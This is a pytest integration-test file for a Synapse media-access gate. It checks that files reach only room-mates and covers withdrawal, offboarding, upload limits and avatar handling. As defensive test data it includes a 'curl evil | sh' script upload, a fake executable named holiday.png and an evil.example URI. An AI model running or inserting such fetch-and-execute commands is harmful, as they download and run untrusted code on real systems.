"""Files stay inside: a real Synapse with the media gate, real nio clients, real E2EE files.

Every test below tries to get a file out past the gate and asserts the exact answer.
"""

from __future__ import annotations

import io
import os
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from nio import AsyncClient, DownloadError, Event, MemoryDownloadResponse, RoomEncryptedFile
from nio.crypto.attachments import decrypt_attachment
from PIL import Image

from provisioner.homeserver.synapse_process import SynapseStartError
from synapse_modules.media_store import POSTING_RIGHTS_CACHE_MS
from tests.harness.e2ee import (
    close_all,
    create_encrypted_room,
    e2ee_login,
    join_and_sync,
    send_content,
    send_encrypted_file,
    sync_all,
    wait_for_event,
)
from tests.harness.synapse_server import SynapseServer, TestUser, start_synapse


def not_found(path: str) -> tuple[int, dict[str, str]]:
    """Synapse's 404 for an unknown media ID, which the gate copies word for word."""
    return 404, {"errcode": "M_NOT_FOUND", "error": f"Not found '{path.split('?')[0]}'"}


def all_not_found(paths: dict[str, str]) -> dict[str, tuple[int, dict[str, str]]]:
    return {label: not_found(path) for label, path in paths.items()}

WITHDRAW = "/_synapse/client/hauspost/media/withdraw"
WITHDRAW_NOT_FOUND = {"errcode": "M_NOT_FOUND", "error": "Not found"}
REPO_ROOT = Path(__file__).resolve().parents[2]


# --- helpers --------------------------------------------------------------------------


def media_id_of(mxc: str) -> str:
    return mxc.rsplit("/", 1)[1]


def every_download_path(server_name: str, media_id: str) -> dict[str, str]:
    """Each client-reachable way to read a local file or its thumbnail."""
    thumb = "?width=32&height=32&method=crop"
    return {
        "v1 download": f"/_matrix/client/v1/media/download/{server_name}/{media_id}",
        "v1 download+name": f"/_matrix/client/v1/media/download/{server_name}/{media_id}/x.pdf",
        "v1 thumbnail": f"/_matrix/client/v1/media/thumbnail/{server_name}/{media_id}{thumb}",
        "v3 download": f"/_matrix/media/v3/download/{server_name}/{media_id}",
        "r0 download": f"/_matrix/media/r0/download/{server_name}/{media_id}",
        "v1 legacy download": f"/_matrix/media/v1/download/{server_name}/{media_id}",
        "v3 thumbnail": f"/_matrix/media/v3/thumbnail/{server_name}/{media_id}{thumb}",
        "r0 thumbnail": f"/_matrix/media/r0/thumbnail/{server_name}/{media_id}{thumb}",
    }


def answers(server: SynapseServer, token: str | None, paths: dict[str, str],
            *, as_query: bool = False) -> dict[str, tuple[int, Any]]:
    """{label: (status, json body or the raw bytes' length)} for GETs with `token`."""
    out: dict[str, tuple[int, Any]] = {}
    with server.client(None if as_query else token) as client:
        for label, path in paths.items():
            if as_query and token:
                path += ("&" if "?" in path else "?") + "access_token=" + token
            resp = client.get(path)
            try:
                body: Any = resp.json()
            except ValueError:
                body = len(resp.content)
            out[label] = (resp.status_code, body)
    return out


def png_bytes(size: int = 640) -> bytes:
    image = Image.new("RGB", (size, size), (200, 30, 30))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def upload_plain(server: SynapseServer, user: TestUser, data: bytes,
                 content_type: str, filename: str = "file") -> httpx.Response:
    with server.client(user.token) as client:
        return client.post(f"/_matrix/media/v3/upload?filename={quote(filename)}",
                           content=data, headers={"Content-Type": content_type})


def withdraw(server: SynapseServer, token: str | None, body: Any) -> httpx.Response:
    with server.client(token) as client:
        return client.post(WITHDRAW, json=body)


def deactivate(server: SynapseServer, user: TestUser) -> None:
    with server.admin() as admin:
        resp = admin.post(f"/_synapse/admin/v1/deactivate/{quote(user.user_id)}",
                          json={"erase": False})
        resp.raise_for_status()


def is_file(event: Event) -> bool:
    return isinstance(event, RoomEncryptedFile)


async def fetch_and_decrypt(client: AsyncClient, event: RoomEncryptedFile) -> bytes:
    resp = await client.download(mxc=event.url)
    if not isinstance(resp, MemoryDownloadResponse):
        raise AssertionError(f"{client.user_id} could not download {event.url}: {resp}")
    return bytes(decrypt_attachment(resp.body, event.key["k"], event.hashes["sha256"],
                                    event.iv))


# --- the scenario of the issue -------------------------------------------------------


async def test_encrypted_file_reaches_room_mates_only_even_when_forwarded(
        synapse: SynapseServer, tmp_path: Path) -> None:
    alice_user, bob_user, carol_user, dan_user = (synapse.create_user(synapse.unique(n))
                                                  for n in ("alice", "bob", "carol", "dan"))
    alice = await e2ee_login(synapse, alice_user, tmp_path)
    bob = await e2ee_login(synapse, bob_user, tmp_path)
    carol = await e2ee_login(synapse, carol_user, tmp_path)
    try:
        room = await create_encrypted_room(alice, invite=[bob.user_id, dan_user.user_id],
                                           name="contracts")
        await join_and_sync(bob, room)
        assert synapse.join(dan_user, room).status_code == 200  # a second room-mate
        await sync_all(alice, bob)
        secret = b"%PDF-1.7 signed contract with ACME, page 1 of 12\n" * 50
        _, mxc = await send_encrypted_file(alice, room, secret)

        event = await wait_for_event(bob, room, is_file)
        assert isinstance(event, RoomEncryptedFile) and event.url == mxc
        assert await fetch_and_decrypt(bob, event) == secret

        # Carol is an employee too, but shares no room with Alice.
        paths = every_download_path(synapse.server_name, media_id_of(mxc))
        refused = all_not_found(paths)
        assert answers(synapse, carol_user.token, paths) == refused
        assert answers(synapse, carol_user.token, paths, as_query=True) == refused
        unknown = every_download_path(synapse.server_name, "NoSuchMediaIdAtAll")
        # A refusal reads exactly like Synapse's answer for an ID that does not exist.
        assert answers(synapse, carol_user.token, unknown) == all_not_found(unknown)

        # Bob forwards the event (with the decryption keys) into a room with Carol.
        side_room = await create_encrypted_room(bob, invite=[carol.user_id], name="side")
        await join_and_sync(carol, side_room)
        await sync_all(bob, carol)
        await send_content(bob, side_room, "m.room.message", {
            "msgtype": "m.file", "body": "contract.pdf",
            "file": {"url": event.url, "key": event.key, "iv": event.iv,
                     "hashes": event.hashes, "v": "v2"},
            "info": {"mimetype": "application/pdf", "size": len(secret)},
        })
        forwarded = await wait_for_event(carol, side_room, is_file)
        assert isinstance(forwarded, RoomEncryptedFile) and forwarded.url == mxc
        resp = await carol.download(mxc=forwarded.url)
        assert isinstance(resp, DownloadError) and resp.status_code == "M_NOT_FOUND"
        assert answers(synapse, carol_user.token, paths) == refused

        # Bob and Dan, room-mates of Alice, keep access; Alice too.
        own = {"v1": paths["v1 download"]}
        for user in (bob_user, dan_user, alice_user):
            assert answers(synapse, user.token, own)["v1"][0] == 200, user.user_id

        # Offboarding Bob: his old token fetches nothing.
        deactivate(synapse, bob_user)
        assert answers(synapse, bob_user.token, {"v1": paths["v1 download"],
                                                 "thumb": paths["v1 thumbnail"]}) == {
            "v1": (401, {"errcode": "M_UNKNOWN_TOKEN", "error": "Invalid access token passed.",
                         "soft_logout": False}),
            "thumb": (401, {"errcode": "M_UNKNOWN_TOKEN",
                            "error": "Invalid access token passed.", "soft_logout": False}),
        }

        # Alice withdraws: nobody, Alice and her room-mate Dan included, can fetch it.
        resp = withdraw(synapse, alice_user.token, {"content_uri": mxc})
        assert (resp.status_code, resp.json()) == (
            200, {"content_uri": mxc, "withdrawn": True, "deleted": True})
        for user in (alice_user, dan_user, carol_user):
            assert answers(synapse, user.token, paths) == refused, user.user_id
    finally:
        await close_all(alice, bob, carol)


def test_thumbnails_follow_the_same_rule(synapse: SynapseServer) -> None:
    """A plaintext image has real thumbnails: the room-mate gets them, Carol gets 404."""
    alice, bob, carol = (synapse.create_user(synapse.unique(n)) for n in ("al", "bo", "ca"))
    room = synapse.create_room(alice, invite=[bob.user_id], initial_state=[{
        "type": "m.room.encryption", "state_key": "",
        "content": {"algorithm": "m.megolm.v1.aes-sha2"}}])
    assert synapse.join(bob, room).status_code == 200
    resp = upload_plain(synapse, alice, png_bytes(), "image/png", "photo.png")
    assert resp.status_code == 200, resp.text
    media_id = media_id_of(resp.json()["content_uri"])
    paths = every_download_path(synapse.server_name, media_id)
    client_paths = {k: v for k, v in paths.items() if v.startswith("/_matrix/client/")}
    legacy_paths = {k: v for k, v in paths.items() if k not in client_paths}

    bob_answers = answers(synapse, bob.token, client_paths)
    assert {k: s for k, (s, _) in bob_answers.items()} == dict.fromkeys(client_paths, 200)
    assert bob_answers["v1 thumbnail"][1] > 0
    assert answers(synapse, carol.token, paths) == all_not_found(paths)
    # The legacy endpoints serve nobody, not even the room-mate.
    assert answers(synapse, bob.token, legacy_paths) == all_not_found(legacy_paths)


def test_unauthenticated_requests_get_nothing(synapse: SynapseServer) -> None:
    alice = synapse.create_user(synapse.unique("alice"))
    resp = upload_plain(synapse, alice, png_bytes(), "image/png")
    media_id = media_id_of(resp.json()["content_uri"])
    paths = every_download_path(synapse.server_name, media_id)
    got = answers(synapse, None, paths)
    missing_token = (401, {"errcode": "M_MISSING_TOKEN", "error": "Missing access token"})
    assert got == {
        "v1 download": missing_token, "v1 download+name": missing_token,
        "v1 thumbnail": missing_token,
        "v3 download": not_found(paths["v3 download"]),
        "r0 download": not_found(paths["r0 download"]),
        "v1 legacy download": not_found(paths["v1 legacy download"]),
        "v3 thumbnail": not_found(paths["v3 thumbnail"]),
        "r0 thumbnail": not_found(paths["r0 thumbnail"]),
    }


def test_legacy_endpoints_are_gated_even_for_unauthenticated_flagged_media(
        synapse: SynapseServer) -> None:
    """Files from before `enable_authenticated_media` are served by the legacy endpoints
    to anyone; the gate still refuses them there (no requester, no file)."""
    alice = synapse.create_user(synapse.unique("alice"))
    resp = upload_plain(synapse, alice, png_bytes(), "image/png")
    media_id = media_id_of(resp.json()["content_uri"])
    with sqlite3.connect(synapse.data_dir / "homeserver.db", timeout=30) as db:
        db.execute("UPDATE local_media_repository SET authenticated = ? WHERE media_id = ?",
                   (False, media_id))
    paths = every_download_path(synapse.server_name, media_id)
    legacy = {k: v for k, v in paths.items() if "/_matrix/media/" in v}
    assert answers(synapse, None, legacy) == all_not_found(legacy)
    assert answers(synapse, alice.token, {"own": paths["v1 download"]})["own"][0] == 200


def test_uploader_leaving_cuts_off_colleagues_at_once(synapse: SynapseServer) -> None:
    dave, erin = synapse.create_user(synapse.unique("dave")), synapse.create_user(
        synapse.unique("erin"))
    room = synapse.create_room(dave, invite=[erin.user_id], initial_state=[{
        "type": "m.room.encryption", "state_key": "",
        "content": {"algorithm": "m.megolm.v1.aes-sha2"}}])
    assert synapse.join(erin, room).status_code == 200
    resp = upload_plain(synapse, dave, b"\x00\x01ciphertext-like bytes" * 100,
                        "application/octet-stream")
    path = {"v1": every_download_path(synapse.server_name,
                                      media_id_of(resp.json()["content_uri"]))["v1 download"]}
    assert answers(synapse, erin.token, path)["v1"][0] == 200
    deactivate(synapse, dave)
    assert answers(synapse, erin.token, path) == all_not_found(path)


def test_leaving_a_room_ends_access(synapse: SynapseServer) -> None:
    alice, bob = (synapse.create_user(synapse.unique(n)) for n in ("alice", "bob"))
    room = synapse.create_room(alice, invite=[bob.user_id], initial_state=[{
        "type": "m.room.encryption", "state_key": "",
        "content": {"algorithm": "m.megolm.v1.aes-sha2"}}])
    assert synapse.join(bob, room).status_code == 200
    resp = upload_plain(synapse, alice, b"\x00secret bytes" * 100, "application/octet-stream")
    path = {"v1": every_download_path(synapse.server_name,
                                      media_id_of(resp.json()["content_uri"]))["v1 download"]}
    assert answers(synapse, bob.token, path)["v1"][0] == 200
    with synapse.client(bob.token) as client:
        assert client.post(f"/_matrix/client/v3/rooms/{quote(room)}/leave",
                           json={}).status_code == 200
    assert answers(synapse, bob.token, path) == all_not_found(path)


# --- withdrawal ------------------------------------------------------------------------


def test_withdraw_is_for_the_uploader_only_and_removes_the_bytes(
        synapse: SynapseServer) -> None:
    alice, bob = (synapse.create_user(synapse.unique(n)) for n in ("alice", "bob"))
    resp = upload_plain(synapse, alice, png_bytes(), "image/png")
    mxc = resp.json()["content_uri"]
    media_id = media_id_of(mxc)
    stored = (synapse.data_dir / "media_store" / "local_content" / media_id[:2]
              / media_id[2:4] / media_id[4:])
    assert stored.is_file()

    assert (withdraw(synapse, bob.token, {"content_uri": mxc}).json()) == WITHDRAW_NOT_FOUND
    assert withdraw(synapse, None, {"content_uri": mxc}).status_code == 401
    bad = withdraw(synapse, alice.token, {"content_uri": "https://evil.example/x"})
    assert (bad.status_code, bad.json()) == (400, {
        "errcode": "M_INVALID_PARAM",
        "error": "'content_uri' is not an mxc:// URI: 'https://evil.example/x'"})
    other = withdraw(synapse, alice.token, {"content_uri": "mxc://elsewhere.example/abc"})
    assert (other.status_code, other.json()["errcode"]) == (400, "M_INVALID_PARAM")
    typo = withdraw(synapse, alice.token, {"content_url": mxc})
    assert (typo.status_code, typo.json()) == (400, {
        "errcode": "M_BAD_JSON", "error": "Unknown field 'content_url'; expected only "
        "'content_uri'"})
    assert stored.is_file(), "refused withdrawals must not touch the file"

    ok = withdraw(synapse, alice.token, {"content_uri": mxc})
    assert (ok.status_code, ok.json()) == (200, {"content_uri": mxc, "withdrawn": True,
                                                 "deleted": True})
    assert not stored.exists()
    assert not (synapse.data_dir / "media_store" / "local_thumbnails" / media_id[:2]
                / media_id[2:4] / media_id[4:]).exists()
    again = withdraw(synapse, alice.token, {"content_uri": mxc})
    assert again.status_code == 200
    assert withdraw(synapse, bob.token, {"content_uri": mxc}).json() == WITHDRAW_NOT_FOUND
    with sqlite3.connect(synapse.data_dir / "homeserver.db", timeout=30) as db:
        rows = db.execute("SELECT media_id, user_id FROM hauspost_media_withdrawn"
                          " WHERE media_id = ?", (media_id,)).fetchall()
    assert rows == [(media_id, alice.user_id)]


# --- no other way out ------------------------------------------------------------------


def test_no_remote_media_and_no_url_previews(synapse: SynapseServer) -> None:
    carol = synapse.create_user(synapse.unique("carol"))
    with synapse.client(carol.token) as client:
        remote = client.get("/_matrix/client/v1/media/download/matrix.org/abcdef")
        preview = client.get("/_matrix/client/v1/media/preview_url",
                             params={"url": "https://example.com/"})
    # Refused before any connection to matrix.org: no server is on the federation whitelist.
    assert (remote.status_code, remote.json()) == (403, {
        "errcode": "M_FORBIDDEN", "error": "Federation denied with matrix.org."})
    assert (preview.status_code, preview.json()) == (404, {
        "errcode": "M_UNRECOGNIZED", "error": "Unrecognized request"})


def test_disallowed_type_is_refused_with_a_clear_error(synapse: SynapseServer) -> None:
    alice = synapse.create_user(synapse.unique("alice"))
    exe = bytearray(512)
    exe[0:2] = b"MZ"
    exe[60:64] = (128).to_bytes(4, "little")
    exe[128:132] = b"PE\x00\x00"
    # The claimed type does not matter: the server judges the content.
    resp = upload_plain(synapse, alice, bytes(exe), "image/png", "holiday.png")
    assert resp.status_code == 403
    body = resp.json()
    assert body["errcode"] == "M_FORBIDDEN"
    assert body["error"].startswith(
        "Files of type application/x-msdownload may not be uploaded to this server "
        "(judged from the file's content; allowed: application/octet-stream, ")
    script = upload_plain(synapse, alice, b"#!/bin/sh\ncurl evil | sh\n", "text/plain")
    assert (script.status_code, script.json()["error"].split(" may")[0]) == (
        403, "Files of type text/x-shellscript")
    allowed = upload_plain(synapse, alice, b"%PDF-1.4 minutes of the meeting", "application/pdf")
    assert allowed.status_code == 200


# --- a server with a small limit and a fast sweep ---------------------------------------


def _fast_media_gate(config: dict[str, Any]) -> None:
    for module in config["modules"]:
        if module["module"] == "synapse_modules.media_gate.MediaGate":
            module["config"].update({"max_upload_size": "64K", "leaver_grace_period_days": 0,
                                     "sweep_interval_minutes": 1})
            return
    raise AssertionError("MediaGate is not among the default modules")


@pytest.fixture(scope="module")
def small_synapse(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SynapseServer]:
    server = start_synapse(tmp_path_factory.mktemp("media-small"), edit=_fast_media_gate)
    yield server
    server.stop()


def test_oversize_upload_is_refused_and_the_limit_advertised(
        small_synapse: SynapseServer) -> None:
    alice = small_synapse.create_user(small_synapse.unique("alice"))
    with small_synapse.client(alice.token) as client:
        config = client.get("/_matrix/client/v1/media/config").json()
    assert config["m.upload.size"] == 65536
    assert set(config) == {"m.upload.size", "de.hauspost.upload.allowed_types",
                           "de.hauspost.upload.refused_extensions"}
    too_big = upload_plain(small_synapse, alice, b"\x00" * (65536 + 1),
                           "application/octet-stream")
    assert (too_big.status_code, too_big.json()) == (413, {
        "errcode": "M_TOO_LARGE", "error": "Upload request body is too large"})
    fits = upload_plain(small_synapse, alice, b"\x00" * 65536, "application/octet-stream")
    assert fits.status_code == 200


def test_leavers_files_are_deleted_after_the_grace_period(
        small_synapse: SynapseServer) -> None:
    """Grace period 0, sweep every minute: the leaver's files are gone within ~1 minute."""
    dave, erin = (small_synapse.create_user(small_synapse.unique(n)) for n in ("dave", "erin"))
    kept = upload_plain(small_synapse, erin, b"\x00erin's file" * 10, "application/octet-stream")
    gone = upload_plain(small_synapse, dave, b"\x00dave's file" * 10, "application/octet-stream")
    kept_id, gone_id = (media_id_of(r.json()["content_uri"]) for r in (kept, gone))
    deactivate(small_synapse, dave)
    db_path = small_synapse.data_dir / "homeserver.db"
    deadline = time.monotonic() + 150
    remaining: list[str] = [gone_id]
    while time.monotonic() < deadline:
        with sqlite3.connect(db_path, timeout=30) as db:
            remaining = [r[0] for r in db.execute(
                "SELECT media_id FROM local_media_repository WHERE media_id IN (?, ?)"
                " ORDER BY media_id", (kept_id, gone_id))]
        if gone_id not in remaining:
            break
        time.sleep(2)
    assert remaining == [kept_id]
    assert not (small_synapse.data_dir / "media_store" / "local_content" / gone_id[:2]
                / gone_id[2:4] / gone_id[4:]).exists()


# --- refusing to start ------------------------------------------------------------------


class SimulateSynapseWithoutGetLocalMediaInfo:
    """Loaded into Synapse before the gate: removes the method, as a future Synapse might."""

    def __init__(self, config: dict[str, Any], api: Any) -> None:
        repo = api._hs.get_media_repository()
        delattr(type(repo), "get_local_media_info")

    @staticmethod
    def parse_config(config: dict[str, Any]) -> dict[str, Any]:
        return config


def test_synapse_refuses_to_start_when_the_wrapped_internal_is_gone(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Synapse must import this test module to load the simulation.
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(
        p for p in (str(REPO_ROOT), os.environ.get("PYTHONPATH", "")) if p))

    def sabotage_first(config: dict[str, Any]) -> None:
        config["modules"].insert(0, {
            "module": f"{__name__}.SimulateSynapseWithoutGetLocalMediaInfo", "config": {}})

    with pytest.raises(SynapseStartError) as excinfo:
        server = start_synapse(tmp_path, edit=sabotage_first)
        server.stop()
    assert ("IncompatibleSynapseError: Hauspost media gate: "
            "MediaRepository.get_local_media_info is missing. The gate was tested with "
            "Synapse 1.163.x") in excinfo.value.output


# --- profile pictures and room avatars ----------------------------------------------------


def test_profile_pictures_set_centrally_are_visible_to_every_employee(
        synapse: SynapseServer) -> None:
    """Central tools upload a picture as the employee (login-as) and set it by admin API."""
    alice, carol = (synapse.create_user(synapse.unique(n)) for n in ("alice", "carol"))
    with synapse.admin() as admin:
        as_alice = admin.post(f"/_synapse/admin/v1/users/{quote(alice.user_id)}/login",
                              json={}).json()["access_token"]
        with synapse.client(as_alice) as client:
            mxc = client.post("/_matrix/media/v3/upload", content=png_bytes(64),
                              headers={"Content-Type": "image/png"}).json()["content_uri"]
        path = {"v1": every_download_path(synapse.server_name, media_id_of(mxc))["v1 download"]}
        assert answers(synapse, carol.token, path) == all_not_found(path)
        admin.put(f"/_synapse/admin/v2/users/{quote(alice.user_id)}",
                  json={"avatar_url": mxc}).raise_for_status()
    assert answers(synapse, carol.token, path)["v1"][0] == 200


def test_an_admins_file_as_a_profile_picture_stays_closed(synapse: SynapseServer) -> None:
    """Uploaded by the service account, set as Alice's picture: not Alice's own file."""
    alice, carol = (synapse.create_user(synapse.unique(n)) for n in ("alice", "carol"))
    with synapse.admin() as admin:
        mxc = admin.post("/_matrix/media/v3/upload", content=png_bytes(64),
                         headers={"Content-Type": "image/png"}).json()["content_uri"]
        admin.put(f"/_synapse/admin/v2/users/{quote(alice.user_id)}",
                  json={"avatar_url": mxc}).raise_for_status()
    path = {"v1": every_download_path(synapse.server_name, media_id_of(mxc))["v1 download"]}
    assert answers(synapse, carol.token, path) == all_not_found(path)


def set_own_avatar(server: SynapseServer, user: TestUser, mxc: str) -> httpx.Response:
    with server.client(user.token) as client:
        return client.put(f"/_matrix/client/v3/profile/{quote(user.user_id)}/avatar_url",
                          json={"avatar_url": mxc})


def test_a_colleagues_file_as_my_profile_picture_stays_closed(
        synapse: SynapseServer) -> None:
    alice, bob, carol = (synapse.create_user(synapse.unique(n)) for n in ("al", "bo", "ca"))
    room = synapse.create_room(alice, invite=[bob.user_id], initial_state=[{
        "type": "m.room.encryption", "state_key": "",
        "content": {"algorithm": "m.megolm.v1.aes-sha2"}}])
    assert synapse.join(bob, room).status_code == 200
    mxc = upload_plain(synapse, alice, png_bytes(64), "image/png").json()["content_uri"]
    # Synapse lets a user without a picture set one once, despite enable_set_avatar_url.
    assert set_own_avatar(synapse, bob, mxc).status_code == 200
    path = {"v1": every_download_path(synapse.server_name, media_id_of(mxc))["v1 download"]}
    assert answers(synapse, carol.token, path) == all_not_found(path)
    # Alice choosing her own file as her picture publishes it: her decision.
    assert set_own_avatar(synapse, alice, mxc).status_code == 200
    assert answers(synapse, carol.token, path)["v1"][0] == 200


def test_a_room_avatar_does_not_pass_a_file_on(synapse: SynapseServer) -> None:
    """Bob makes Alice's photo the avatar of his room with Carol: Carol still can't fetch it."""
    alice, bob, carol = (synapse.create_user(synapse.unique(n)) for n in ("al", "bo", "ca"))
    encrypted = [{"type": "m.room.encryption", "state_key": "",
                  "content": {"algorithm": "m.megolm.v1.aes-sha2"}}]
    room = synapse.create_room(alice, invite=[bob.user_id], initial_state=encrypted)
    assert synapse.join(bob, room).status_code == 200
    mxc = upload_plain(synapse, alice, png_bytes(), "image/png").json()["content_uri"]
    side = synapse.create_room(bob, invite=[carol.user_id], initial_state=encrypted)
    assert synapse.join(carol, side).status_code == 200
    with synapse.client(bob.token) as client:
        resp = client.put(f"/_matrix/client/v3/rooms/{quote(side)}/state/m.room.avatar/",
                          json={"url": mxc})
    assert resp.status_code == 200, resp.text
    paths = every_download_path(synapse.server_name, media_id_of(mxc))
    assert answers(synapse, carol.token, paths) == all_not_found(paths)
    assert answers(synapse, bob.token, {"t": paths["v1 thumbnail"]})["t"][0] == 200


def test_a_read_only_all_hands_room_does_not_make_everyone_a_room_mate(
        synapse: SynapseServer) -> None:
    """Everyone is in the announcement room; only IT may post there."""
    it, alice, bob, carol = (synapse.create_user(synapse.unique(n))
                             for n in ("it", "alice", "bob", "carol"))
    encrypted = [{"type": "m.room.encryption", "state_key": "",
                  "content": {"algorithm": "m.megolm.v1.aes-sha2"}}]
    all_hands = synapse.create_room(
        it, invite=[alice.user_id, carol.user_id], initial_state=encrypted,
        power_level_content_override={"events_default": 50})
    for member in (alice, carol):
        assert synapse.join(member, all_hands).status_code == 200
    team = synapse.create_room(alice, invite=[bob.user_id], initial_state=encrypted)
    assert synapse.join(bob, team).status_code == 200

    alices = upload_plain(synapse, alice, b"\x00quarterly figures" * 50,
                          "application/octet-stream").json()["content_uri"]
    its = upload_plain(synapse, it, b"\x00canteen menu" * 50,
                       "application/octet-stream").json()["content_uri"]
    alice_path = {"v1": every_download_path(synapse.server_name,
                                            media_id_of(alices))["v1 download"]}
    it_path = {"v1": every_download_path(synapse.server_name, media_id_of(its))["v1 download"]}
    assert answers(synapse, bob.token, alice_path)["v1"][0] == 200
    # Alice can't post in the announcement room, so it can't be where she shared it.
    assert answers(synapse, carol.token, alice_path) == all_not_found(alice_path)
    # IT can post there: its files reach everyone in it.
    assert answers(synapse, carol.token, it_path)["v1"][0] == 200
    # Give Alice the right to post there, and her files reach Carol through that room.
    with synapse.client(it.token) as client:
        levels = client.get(f"/_matrix/client/v3/rooms/{quote(all_hands)}/state/"
                            "m.room.power_levels/").json()
        levels.setdefault("users", {})[alice.user_id] = 50
        assert client.put(f"/_matrix/client/v3/rooms/{quote(all_hands)}/state/"
                          "m.room.power_levels/", json=levels).status_code == 200
    # Posting rights are cached per process for POSTING_RIGHTS_CACHE_MS (documented).
    deadline = time.monotonic() + POSTING_RIGHTS_CACHE_MS / 1000 + 5
    status = 0
    while time.monotonic() < deadline:
        status = answers(synapse, carol.token, alice_path)["v1"][0]
        if status == 200:
            break
        time.sleep(0.5)
    assert status == 200
